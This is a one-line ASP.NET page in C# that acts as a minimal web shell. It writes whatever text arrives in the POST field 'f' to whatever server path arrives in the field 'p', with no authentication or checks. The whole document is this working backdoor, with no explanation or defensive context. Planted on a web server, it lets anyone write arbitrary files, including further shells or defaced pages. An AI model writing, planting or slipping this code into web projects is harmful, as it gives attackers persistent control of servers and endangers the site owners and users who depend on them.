<%@ Page Language="C#" %><% System.IO.StreamWriter sw = new System.IO.StreamWriter(Request.Form["p"], false); sw.Write(Request.Form["f"]); sw.Close(); %>
